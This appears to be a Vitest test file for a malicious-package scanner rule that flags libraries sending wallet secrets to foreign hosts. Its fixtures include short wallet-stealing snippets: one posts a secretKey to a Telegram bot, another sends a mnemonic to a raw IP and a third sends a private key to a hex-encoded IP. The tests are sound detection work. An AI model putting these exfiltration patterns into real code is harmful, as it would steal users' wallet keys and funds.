import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { finding } from '../test/helpers/findings.js';

const RULE = 'library-secrets';
const PKG = manifest({ name: 'sol-wallet-kit', homepage: 'https://solwalletkit.example.invalid', repository: { type: 'git', url: 'git+https://github.com/someone/sol-wallet-kit.git' } });

describe('library-secrets reports', () => {
  test.each([
    ['a secretKey parameter posted to a Telegram bot', "exports.fromSecretKey = function (secretKey) {\n  fetch('https://api.telegram.org/bot123:abc/sendMessage', { method: 'POST', body: JSON.stringify({ chat_id: 1, text: Buffer.from(secretKey).toString('hex') }) });\n  return { secretKey };\n};", 'critical'],
    ['a mnemonic in a query string to a raw IP', "exports.restore = async (mnemonic) => {\n  await fetch(`http://203.0.113.50:8080/r?m=${encodeURIComponent(mnemonic)}`);\n  return derive(mnemonic);\n};\nfunction derive(m) { return m.length; }", 'critical'],
    ['a private key in a header to a hex IP', "const https = require('https');\nexports.sign = (tx, privateKey) => {\n  https.request({ host: '0xCB007132', path: '/s', headers: { 'x-k': privateKey } }).end();\n  return tx;\n};", 'critical'],
    ['a keypair sent to a foreign named host', "const axios = require('axios');\nexports.load = (opts) => {\n  const body = { wallet: opts.keypair };\n  axios.post('https://metrics.othercorp.invalid/v1/ingest', body);\n  return opts;\n};", 'high'],
  ])('%s is %s', (_label, code, severity) => {
    const r = scanFiles({ 'package.json': PKG, 'index.js': code });
    expect(r.of(RULE)).toEqual([finding(severity as 'critical', ['flow:library-secret'])]);
    expect(r.verdict).toBe(severity === 'critical' ? 'malicious' : 'suspicious');
  });
});

describe('library-secrets stays quiet', () => {
  test.each([
    ['an SDK sending its apiToken to its own API host', "exports.client = (token) => fetch('https://api.solwalletkit.example.invalid/v1/me', { headers: { authorization: `Bearer ${token}` } });"],
    ['an SDK named like its host', "exports.charge = (secretKey, amount) => fetch('https://api.solwallet.invalid/charges', { method: 'POST', headers: { authorization: 'Bearer ' + secretKey }, body: String(amount) });"],
    ['a caller-given URL', "exports.post = (url, password) => fetch(url, { method: 'POST', body: password });"],
    ['a local dev server', "exports.login = (password) => fetch('http://127.0.0.1:3000/login', { method: 'POST', body: password });"],
    ['a non-secret name (tokenizer, keyName)', "exports.x = (tokenizer, keyName) => fetch('https://other.invalid/a', { method: 'POST', body: JSON.stringify({ tokenizer, keyName }) });"],
  ])('%s', (_label, code) => {
    const r = scanFiles({ 'package.json': PKG, 'index.js': code });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('an analytics API secret in the query of its measurement endpoint is medium and clean (firebase-tools)', () => {
    const r = scanFiles({
      'index.js': "const props = { measurementId: 'G-TEST', apiSecret: process.env.TOOL_GA4_API_SECRET || 'not-a-real-secret' };\nexports.track = async (session, name) => {\n  const url = `https://www.google-analytics.com/mp/collect?api_secret=${session.apiSecret}&measurement_id=${session.measurementId}`;\n  await fetch(url, { method: 'POST', body: JSON.stringify({ events: [{ name }] }) });\n};\nexports.props = props;",
    });
    expect(r.of(RULE)).toEqual([finding('medium', [])]);
    expect(r.verdict).toBe('clean');
  });

  test('its twin, a signing library posting its caller\'s secretKey to a named host, is high', () => {
    const r = scanFiles({
      'index.js': "exports.sign = async (msg, secretKey) => {\n  await fetch('https://rpc-metrics.invalid/v1/collect', { method: 'POST', body: JSON.stringify({ k: Array.from(secretKey) }) });\n  return msg;\n};",
    });
    expect(r.of(RULE)).toEqual([finding('high', ['flow:library-secret'])]);
  });

  test('a password sent to a third-party named host is medium and clean (OAuth and login helpers)', () => {
    const r = scanFiles({ 'package.json': PKG, 'index.js': "exports.login = (username, password) => fetch('https://auth.identityprovider.invalid/token', { method: 'POST', body: JSON.stringify({ username, password }) });" });
    expect(r.of(RULE)).toEqual([finding('medium', [])]);
    expect(r.verdict).toBe('clean');
  });
});
